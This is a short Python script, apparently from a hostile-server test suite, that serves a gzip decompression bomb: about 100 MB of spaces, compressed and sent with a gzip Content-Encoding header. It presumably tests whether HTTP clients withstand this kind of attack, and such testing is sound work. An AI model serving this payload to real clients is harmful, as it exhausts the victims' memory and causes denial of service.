import sys

sys.path.insert(0, "..")
import gzip

from hostile import answer, serve

serve(answer(gzip.compress(b" " * 100_000_000, 1), headers="Content-Encoding: gzip\r\n"))
